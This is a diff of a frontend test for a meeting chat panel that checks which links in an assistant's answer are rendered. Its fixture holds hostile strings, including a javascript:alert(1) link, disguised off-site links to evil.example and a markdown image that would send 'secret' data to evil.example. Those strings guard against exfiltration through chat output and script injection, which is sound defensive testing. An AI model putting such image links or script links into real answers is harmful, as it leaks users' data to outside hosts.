@@ -143,18 +143,30 @@ describe('MeetingChatPanel', () => {
     expect(screen.getByRole('button', { name: 'Send message' })).toBeEnabled();
   });
 
-  it('keeps unsafe link addresses out of answers', async () => {
+  it("links answers only to this app's meetings: any other address shows as its words", async () => {
     const { user, socket, input } = setup();
     await user.type(input, 'Links?{Enter}');
     await waitFor(() => expect(socket.requests).toHaveLength(1));
     answer(
       '[START MSG]',
       '[Deck](https://acme.example/deck) [Bad](javascript:alert(1)) <b>raw</b> ',
+      '[Join](/invite?token=abc) [Elsewhere](//evil.example/x) [Back](/\\evil.example/x) ',
+      'https://evil.example/bare www.evil.example dana@evil.example ',
+      '[Moment](/meetings/m-1?t=83) ',
       '![the summary](https://evil.example/leak?d=secret)',
       '[END MSG]',
     );
-    expect(screen.getByRole('link', { name: 'Deck' })).toHaveAttribute('href', 'https://acme.example/deck');
-    expect(screen.getAllByRole('link')).toHaveLength(1);
+    // A moment of a meeting opens in the app, in the same tab.
+    const moment = screen.getByRole('link', { name: 'Moment' });
+    expect(moment).toHaveAttribute('href', '/meetings/m-1?t=83');
+    expect(moment).not.toHaveAttribute('target');
+    // Without a tool that returned it, no outside page is a link; nor an in-app page but a meeting.
+    expect(screen.getAllByRole('link')).toEqual([moment]);
+    const [bubble] = bubbles('assistant') as [HTMLElement];
+    for (const words of ['Deck', 'Bad', 'Join', 'Elsewhere', 'Back']) {
+      expect(within(bubble).getByText(words).tagName).toBe('SPAN');
+    }
+    expect(bubble).toHaveTextContent('https://evil.example/bare www.evil.example dana@evil.example');
     expect(document.querySelector('#meeting-chat b')).toBeNull();
     // Images are never loaded: their words stay.
     expect(document.querySelector('#meeting-chat img')).toBeNull();
